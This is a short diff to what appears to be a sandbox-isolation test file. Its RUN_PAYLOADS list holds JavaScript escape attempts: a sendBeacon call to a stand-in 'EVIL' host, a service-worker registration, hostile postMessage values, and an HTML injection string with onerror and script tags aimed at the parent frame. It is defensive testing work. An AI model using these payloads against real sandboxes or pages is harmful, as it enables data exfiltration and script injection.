@@ -128,7 +128,7 @@ export const RUN_PAYLOADS = [
   tried('sendBeacon', `navigator.sendBeacon('${EVIL}'); print('LEAK')`),
   tried('serviceWorker', `await navigator.serviceWorker.register('ORIGIN/run.js'); print('LEAK')`),
   tried('BroadcastChannel', `new BroadcastChannel('reckon').postMessage('x'); print('blocked (nobody hears)')`),
-  tried('Notification', `new Notification('x'); print('LEAK')`),
+  tried('Notification', `print(Notification.permission === 'granted' ? 'LEAK' : 'blocked')`),
   tried('hostile message', `postMessage({ type: 'out', text: { toString: 1 } }); postMessage({ type: '<img>', text: 1 }); postMessage(null); print('blocked')`),
   tried('html output', `print('<img src=x onerror="parent.__owned=1"><script>parent.__owned=1</script>'); print('blocked')`),
   tried('closing', `print('blocked'); self.close()`),
